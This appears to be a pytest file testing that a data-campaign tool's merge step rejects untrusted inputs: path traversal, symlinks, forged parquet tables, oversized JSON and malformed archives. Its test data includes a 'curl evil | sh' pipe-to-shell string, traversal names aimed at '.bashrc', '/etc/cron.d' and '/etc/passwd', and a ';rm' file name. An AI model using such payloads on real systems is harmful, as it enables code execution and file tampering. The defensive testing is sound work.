# SPDX-FileCopyrightText: 2026 The GLIDAR developers
# SPDX-License-Identifier: BSD-3-Clause
"""Parts of a campaign from an untrusted source: receipts, manifests and files are checked before use."""

import hashlib
import io
import json
import os
import shutil
import socket

import numpy as np
import pytest

from glidar import Error
from glidar.campaign import files, index, names, npz_output, pages, records, report, run
from glidar.campaign.beneath import Inside


@pytest.fixture(scope="module")
def parts(tmp_path_factory):
    """Two parts and the merged data of a small campaign; tests change copies."""
    from campaign_support import Campaign

    made = Campaign(tmp_path_factory.mktemp("parts"))
    made.write("campaign.yaml", (made.folder / "campaign.yaml").read_text().replace("trials: 40", "trials: 8")
               + "outputs: {npz: true, pcd: {every: 4}, kitti: true, tum: true, bop: true}\n")
    for i in (0, 1):
        run.run(made.folder / "campaign.yaml", made.folder / f"p{i}", run.ShardSubset(i, 2), workers=1, quiet=True)
    run.merge([made.folder / "p0", made.folder / "p1"], made.folder / "whole")
    return made.folder


@pytest.fixture
def folder(parts, tmp_path):
    for name in ("p0", "p1", "whole"):
        shutil.copytree(parts / name, tmp_path / name)
    return tmp_path


def change(path, edit):
    """Edits a JSON file in place."""
    value = json.loads(path.read_text())
    edit(value)
    path.write_text(json.dumps(value))


def listing(data, name):
    return {name: [hashlib.sha256(data).hexdigest(), len(data)]}


def merge(folder):
    return run.merge([folder / "p0", folder / "p1"], folder / "new")


HOSTILE = ["../.bashrc", "/etc/cron.d/x", "npz/../../.bashrc", "campaign.json", "receipts/000000.json", "log/x.jsonl",
           "npz/shard-000001-0123456789abcdef.npz\n", "npz/./shard-000001-0123456789abcdef.npz", "parts/000000.parquet",
           "pcd/000000000.pcd", "kitti/velodyne/000000003.bin", "npz/shard-000001-0123456789abcdef.npz\0", "", "..",
           "bop/train/000000/scene_gt.json", "bop/models/obj_000001.ply", "npz/shard-000001-0123456789ABCDEF.npz"]


@pytest.mark.parametrize("name", HOSTILE)
def test_a_receipt_can_only_list_files_of_its_shard(folder, name):
    evil = b"curl evil | sh"
    (folder / ".bashrc").write_text("# my own")
    change(folder / "p1" / "receipts" / "000001.json", lambda r: r["files"].update(listing(evil, name)))
    with pytest.raises(Error, match="it lists the file .*files that shard 1 writes") as raised:
        merge(folder)
    assert raised.value.where.endswith("p1/receipts/000001.json") and "\n" not in str(raised.value)
    assert (folder / ".bashrc").read_text() == "# my own"
    assert not (folder / "new" / "manifest.json").exists()


@pytest.mark.parametrize("name", ["../../x", "npz/../../secret", "/etc/passwd", "log/x.jsonl"])
def test_a_manifest_can_only_list_files_that_campaigns_write(folder, name):
    change(folder / "whole" / "manifest.json", lambda m: m["files"].update(listing(b"x", name)))
    for use in (run.check, report.page):
        with pytest.raises(Error, match="it lists the file"):
            use(folder / "whole")


def test_the_receipt_of_models_can_only_list_models(folder):
    change(folder / "p0" / "receipts" / "once-bop.json", lambda r: r["files"].update(listing(b"x", "campaign.json")))
    with pytest.raises(Error, match="bop/models"):
        merge(folder)


@pytest.mark.parametrize("name", ["evil.json", "once-.json", "00001.json", "000001x.json"])
def test_files_with_other_names_among_the_receipts_are_rejected(folder, name):
    shutil.copy(folder / "p1" / "receipts" / "000001.json", folder / "p1" / "receipts" / name)
    with pytest.raises(Error, match="it is not a receipt"):
        merge(folder)


def test_a_receipt_with_a_shard_out_of_range_is_rejected(folder):
    shutil.copy(folder / "p1" / "receipts" / "000001.json", folder / "p1" / "receipts" / "000002.json")
    with pytest.raises(Error, match="a receipt of shard 2; allowed: shards from 0 to 1"):
        merge(folder)


@pytest.mark.parametrize("root", ["p1", "new"])
def test_links_out_of_a_campaign_are_not_followed(folder, root):
    outside = folder / "outside"
    (folder / root).mkdir(exist_ok=True)
    if root == "new":
        outside.mkdir()
        shutil.copy(folder / "p0" / "campaign.json", folder / "new")
    else:
        (folder / "p1" / "npz").rename(outside)
    (folder / root / "npz").symlink_to(outside)
    before = sorted(outside.iterdir())
    with pytest.raises(Error, match="'npz' is a link; allowed: a campaign's folder without links"):
        merge(folder)
    assert sorted(outside.iterdir()) == before


WRITTEN = ["log", "tmp", "parts", "receipts", "npz", "kitti", "bop"]


@pytest.mark.parametrize("name", WRITTEN)
def test_a_run_follows_no_linked_folder(parts, folder, name):
    outside = folder / "outside"
    if (folder / "p1" / name).exists():
        (folder / "p1" / name).rename(outside)
    outside.mkdir(exist_ok=True)
    (outside / f"{socket.gethostname()}-2147483647-0123abcd" / "keep").mkdir(parents=True)
    (folder / "p1" / name).symlink_to(outside)
    if name != "receipts":
        (folder / "p1" / "receipts" / "000001.json").unlink()  # so that the shard is measured again
    before = contents(outside)
    with pytest.raises(Error, match=f"'{name}' is a link"):
        run.run(parts / "campaign.yaml", folder / "p1", run.ShardSubset(1, 2), workers=1, quiet=True)
    assert contents(outside) == before


def contents(folder):
    """All files below with their bytes."""
    return {path.relative_to(folder).as_posix(): path.read_bytes() if path.is_file() else None
            for path in sorted(folder.rglob("*"))}


def test_a_run_appends_to_no_linked_log(parts, folder):
    (folder / "p1" / "receipts" / "000001.json").unlink()
    victim = folder / "victim"
    victim.write_text("mine\n")
    shutil.rmtree(folder / "p1" / "log")
    (folder / "p1" / "log").mkdir()
    (folder / "p1" / "log" / f"{socket.gethostname()}-{os.getpid()}.jsonl").symlink_to(victim)
    with pytest.raises(Error, match=r"\.jsonl' is a link"):
        run.run(parts / "campaign.yaml", folder / "p1", run.ShardSubset(1, 2), workers=1, quiet=True)
    assert victim.read_text() == "mine\n"


@pytest.mark.parametrize("name", ["parts/000001.parquet", "receipts/000001.json", "campaign.json"])
def test_linked_files_of_a_campaign_are_not_read(parts, folder, name):
    (folder / "p1" / name).rename(folder / "outside")
    (folder / "p1" / name).symlink_to(folder / "outside")
    with pytest.raises(Error, match="is a link"):
        run.run(parts / "campaign.yaml", folder / "p1", run.ShardSubset(1, 2), workers=1, quiet=True)


def test_the_report_replaces_a_link_in_its_place(folder):
    (folder / "victim").write_text("mine")
    (folder / "whole" / "report.html").symlink_to(folder / "victim")
    report.write(folder / "whole")
    assert (folder / "victim").read_text() == "mine"
    assert (folder / "whole" / "report.html").read_text().startswith("<!doctype html>")


@pytest.mark.parametrize("pid", ["99999999999999999999", "2147483648", "\u00b2", "", "1 "])
def test_other_folders_among_the_temporary_ones_stay_with_a_note(folder, pid, caplog):
    name = f"{socket.gethostname()}-{pid}-0123abcd"
    (folder / "p1" / "tmp" / name).mkdir(parents=True)
    files.remove_stale_files(folder / "p1")
    assert (folder / "p1" / "tmp" / name).is_dir()
    assert "it is not a folder of glidar campaign, and stays" in caplog.text


def test_temporary_folders_of_ended_processes_are_removed_without_following_links(folder):
    outside, stale = folder / "outside", folder / "p1" / "tmp" / f"{socket.gethostname()}-2147483647-0123abcd"
    other = folder / "p1" / "tmp" / "another.host-2147483647-0123abcd"
    for made in (outside, stale, other):
        made.mkdir(parents=True)
    (outside / "keep").write_text("mine")
    (stale / "link").symlink_to(outside)
    files.remove_stale_files(folder / "p1")
    assert not stale.exists() and other.is_dir() and (outside / "keep").read_text() == "mine"


def rewrite_part(folder, edit):
    """Replaces the part of shard 1 by an edited table, and its hash in the receipt."""
    import pyarrow.parquet as pq

    path = folder / "p1" / "parts" / "000001.parquet"
    pq.write_table(edit(pq.read_table(path)), path, compression="zstd")
    change(folder / "p1" / "receipts" / "000001.json",
           lambda r: r["files"].update(listing(path.read_bytes(), "parts/000001.parquet")))


def replaced(table, name, values):
    import pyarrow as pa

    return table.set_column(table.schema.get_field_index(name), name, pa.array(values))


FORGED_PARTS = {
    "3000000 rows": lambda table: table.take([0] * 3_000_000),
    "0 rows": lambda table: table.slice(0, 0),
    "3 rows": lambda table: table.slice(0, 3),
    "column trial differs": lambda table: replaced(table, "trial", [4, 5, 6, 6]),
    "column shard differs": lambda table: replaced(table, "shard", [1, 1, 1, 0]),
    "column ok differs": lambda table: replaced(table, "ok", [True, True, True, False]),
    "column note": lambda table: table.append_column("note", table["scene"]),
    "MiB": lambda table: replaced(table, "error", ["x" * (6 << 20)] * 4),
    "column x_m has an infinite number": lambda table: replaced(table, "x_m", [1.0, 2.0, 3.0, np.inf]),
}


@pytest.mark.parametrize("found", FORGED_PARTS)
def test_the_rows_of_a_part_are_those_of_its_receipt(folder, found):
    rewrite_part(folder, FORGED_PARTS[found])
    with pytest.raises(Error, match=found):
        merge(folder)
    assert not (folder / "new" / "index.parquet").exists()
    assert not (folder / "new" / "parts" / "000001.parquet").exists()


def varint(number, size=0):
    """A number of Thrift's compact protocol, in at least `size` bytes."""
    made = bytearray()
    while number or not made or len(made) < size:
        made.append(number & 0x7F | 0x80)
        number >>= 7
    made[-1] &= 0x7F
    return bytes(made)


def test_a_part_that_claims_to_be_small_is_rejected_before_it_is_unpacked(folder):
    import pyarrow as pa
    import pyarrow.parquet as pq

    rewrite_part(folder, lambda table: replaced(table, "error", ["x" * (100 << 20), "", "", ""]))
    part = folder / "p1" / "parts" / "000001.parquet"
    data = part.read_bytes()
    claimed = varint(2 * pq.ParquetFile(part).metadata.row_group(0).total_byte_size)
    head, found, tail = data.rpartition(claimed)
    assert found
    part.write_bytes(head + varint(2000, len(claimed)) + tail)
    assert pq.ParquetFile(part).metadata.row_group(0).total_byte_size == 1000
    before = pa.total_allocated_bytes(), pa.default_memory_pool().max_memory()
    with pytest.raises(Error, match="a table of 100 MiB; allowed: at most 16 MiB"):
        index.read(part, 4)
    assert (pa.total_allocated_bytes(), pa.default_memory_pool().max_memory()) == before


@pytest.mark.parametrize("header", [b"", b"\x15", b"\x15" + b"\xff" * 20, b"\x19\xf3" + b"\xff" * 8 + b"\x7f", b"\x19\x19" * 9000,
                                    b"\x1c" * 50, b"\x1d\x00", b"\x15\x00\x15\x01\x15\x00\x00", b"\x15\x00\x00"])
def test_malformed_headers_of_pages_are_rejected(header):
    class Metadata:
        """Of one column with one page."""

        num_row_groups = num_columns = 1
        data_page_offset = 0
        has_dictionary_page = False
        total_compressed_size = 1 << 20

        def row_group(self, _):
            return self

        column = row_group

    with pytest.raises(ValueError):
        pages.uncompressed_bytes(io.BytesIO(header), Metadata())


def test_a_part_with_names_that_are_not_text_is_rejected(folder):
    rewrite_part(folder, lambda table: table)
    part = folder / "p1" / "parts" / "000001.parquet"
    part.write_bytes(part.read_bytes().replace(b"x_m", b"\xba_m"))
    with pytest.raises(Error, match="it is not an index of trials"):
        index.read(part, 4)


def test_records_of_very_many_values_are_rejected_before_they_are_parsed(folder):
    receipt = folder / "p1" / "receipts" / "000001.json"
    text = receipt.read_text().rstrip("}\n")
    receipt.write_text(f'{text}, "x": ["{"," * 70_000}"]}}')  # a text is one value
    merge(folder)
    receipt.write_text(f'{text}, "x": [{"{}," * 70_000} 1]}}')
    with pytest.raises(Error, match="JSON of more than 66560 values"):
        run.merge([folder / "p0", folder / "p1"], folder / "other")


def test_names_in_a_campaigns_folder_lead_nowhere_else(folder):
    for name in ("../x", "a/../../x", "/etc/passwd", "a//b", ".", "", "a\0b"):
        with pytest.raises(Error, match="not the name of a file in this folder"):
            Inside(folder) / name
    with pytest.raises(TypeError):
        open(Inside(folder) / "campaign.yaml")


def test_pipes_and_devices_in_a_part_are_rejected_without_blocking(folder):
    victim = next((folder / "p1" / "npz").iterdir())
    victim.unlink()
    os.mkfifo(victim)
    with pytest.raises(Error, match="a pipe or a device"):
        merge(folder)
    for name in ("receipts/000001.json", "campaign.json"):
        (folder / "p1" / name).unlink()
        os.mkfifo(folder / "p1" / name)
    with pytest.raises(Error, match="it contains no campaign|a pipe or a device"):
        merge(folder)
    with pytest.raises(Error, match="a pipe or a device"):
        files.hash_file("/dev/zero")


def test_merge_copies_only_log_files_as_logs(folder, caplog):
    (folder / "p1" / "log" / ".x;rm.jsonl").write_text("{}")
    merge(folder)
    taken = list((folder / "new" / "log").iterdir())
    assert taken and all(names.is_log(path) for path in taken)
    assert "it is not a log of glidar campaign, and is not copied" in caplog.text


MALFORMED = {
    "campaign.json": [
        (("shards",), 10**30), (("trials",), 10**30), (("trials",), 1 << 32), (("shard_trials",), 0),
        (("shards",), -1), (("shards",), "2"), (("shards",), True), (("hash",), "../x"), (("plan",), []),
        (("plan", "campaign", "outputs"), None), (("plan", "campaign", "outputs", "tum"), 1),
        (("plan", "scenes"), {}), (("plan", "scenes"), [3]), (("one_shape",), None),
        (("plan", "campaign", "pose", "orientation"), 7)],
    "receipts/000001.json": [
        (("trials",), 10**30), (("trials",), 3), (("failed",), 5), (("failed",), -1), (("files",), []), (("shard",), 0),
        (("files",), {"parts/000001.parquet": "x"}), (("files",), {"parts/000001.parquet": ["x", 1]}),
        (("files",), {"parts/000001.parquet": ["0" * 64, 1.5]}), (("files",), {"parts/000001.parquet": ["0" * 64]})],
}


@pytest.mark.parametrize("name, keys, value",
                         [(name, *case) for name, cases in MALFORMED.items() for case in cases])
def test_a_malformed_record_raises_an_error_with_its_location(folder, name, keys, value):
    def edit(record):
        for key in keys[:-1]:
            record = record[key]
        record[keys[-1]] = value

    change(folder / "p1" / name, edit)
    with pytest.raises(Error) as raised:
        merge(folder)
    assert name in raised.value.where and raised.value.found


@pytest.mark.parametrize("text, words", [
    ("[" * 100_000, "nested too deeply|not JSON"), ("[" * 500 + "]" * 500, "nested too deeply"),
    ('{"a": NaN}', "NaN"), ("\ufffe", "not JSON"), ('{"x": ' + "9" * 5000 + "}", "not JSON"), ("[1, 2]", "it is \\[1, 2\\]"),
    ("{}", "the key 'hash' is missing"), ('"' + "y" * 10_000 + '"', "yyy")])
@pytest.mark.parametrize("name", ["campaign.json", "receipts/000001.json", "manifest.json"])
def test_invalid_json_raises_an_error_with_a_short_excerpt(folder, name, text, words):
    (folder / "whole" / name).write_text(text)
    with pytest.raises(Error, match=words if name == "campaign.json" else None) as raised:
        run.check(folder / "whole")
        run.merge([folder / "whole"], folder / "new")
    assert len(raised.value.found) < 300 and "\n" not in str(raised.value)


def test_records_that_are_not_utf8_raise_an_error(folder):
    (folder / "whole" / "manifest.json").write_bytes(b'{"campaign": "\xff\xfe\xff"}')
    with pytest.raises(Error, match="not JSON"):
        run.check(folder / "whole")


def test_a_campaign_with_too_many_shards_is_rejected_immediately(parts, tmp_path):
    shutil.copytree(parts, tmp_path / "c")
    path = tmp_path / "c" / "campaign.yaml"
    text = path.read_text().replace("trials: 8", "trials: 4294967296").replace("shard_trials: 4", "shard_trials: 1")
    path.write_text(text)
    with pytest.raises(Error, match="at most 4194304 shards; set shard_trials to 1024 or more"):
        run.run(path, tmp_path / "out", quiet=True)


def test_a_merge_counts_missing_shards_from_existing_receipts(folder):
    def edit(record):
        record.update(trials=1 << 32, shard_trials=1024, shards=1 << 22)

    for part in ("p0", "p1"):
        change(folder / part / "campaign.json", edit)
        shutil.rmtree(folder / part / "receipts")
    assert merge(folder).missing == 1 << 22


@pytest.mark.parametrize("content", [b"", b"PAR1", b"\xff" * 100])
def test_an_invalid_index_raises_an_error(folder, content):
    (folder / "whole" / "index.parquet").write_bytes(content)
    with pytest.raises(Error, match="it is not an index of trials"):
        report.page(folder / "whole")


def test_an_index_with_wrong_columns_raises_an_error(folder):
    import pyarrow as pa
    import pyarrow.parquet as pq

    table = pq.read_table(folder / "whole" / "index.parquet")
    for name, values in (("shard", pa.array(["../../x"] * len(table))), ("trial", pa.array([None] * len(table), pa.int64()))):
        place = table.schema.get_field_index(name)
        pq.write_table(table.set_column(place, name, values), folder / "whole" / "index.parquet")
        with pytest.raises(Error, match=f"column {name}"):
            report.page(folder / "whole")


def test_malformed_logs_do_not_affect_the_report(folder):
    (folder / "whole" / "log" / "x.jsonl").write_bytes(
        b'\xff\n[1]\n{"shard": 1}\n{"time_s": "x"}\n{"time_s": NaN}\n{"shard": 1, "time_s": 1, "seconds": [], "trials": 1}\n'
        + b"[" * 100_000)
    assert "<h2>Speed</h2>" in report.page(folder / "whole")


@pytest.mark.parametrize("member", ["../x.npy", "/etc/x.npy", "range", "a" * 100 + ".npy", "RANGE.npy", "x\n.npy"])
def test_archives_with_invalid_member_names_are_rejected(folder, member):
    import zipfile

    path = folder / "x.npz"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(member, b"x")
    with pytest.raises(Error, match="names of columns"), npz_output.opened(path):
        pass


def test_a_corrupt_archive_raises_an_error(folder):
    victim = next((folder / "whole" / "npz").iterdir())
    data = bytearray(victim.read_bytes())
    data[200:] = b"\xff" * (len(data) - 200)
    for content in (bytes(data), b"", b"PK\x03\x04", np.arange(3).tobytes()):
        victim.write_bytes(content)
        with pytest.raises(Error, match=victim.name):
            report.page(folder / "whole")


def test_records_of_a_run_are_valid(folder):
    described = records.read_campaign(folder / "whole" / "campaign.json")
    assert [records.read_receipt(path, described)["trials"] for path in records.receipts_in(folder / "whole")] == [4, 4, 0]
    assert records.read_manifest(folder / "whole" / "manifest.json")["trials"] == 8
    count, wrong = run.check(folder / "whole")
    assert count > 60 and not wrong


@pytest.mark.parametrize("value", [10**30, None, 3.5, "a\0b", "\ud800", "x" * 10_000, []])
def test_invalid_paths_and_counts_raise_an_error(folder, value):
    for use in (lambda: run.run(value, folder / "out", quiet=True), lambda: run.check(value), lambda: report.page(value),
                lambda: run.merge([value], folder / "out"), lambda: run.merge([folder / "p0"], value),
                lambda: run.ShardSubset(value, 2), lambda: run.ShardSubset(0, value),
                lambda: run.run(folder / "none.yaml", folder / "out", workers=value, quiet=True)):
        with pytest.raises(Error):
            use()
    for index, count in ((0, 0), (2, 2), (-1, 2)):
        with pytest.raises(Error):
            run.ShardSubset(index, count)
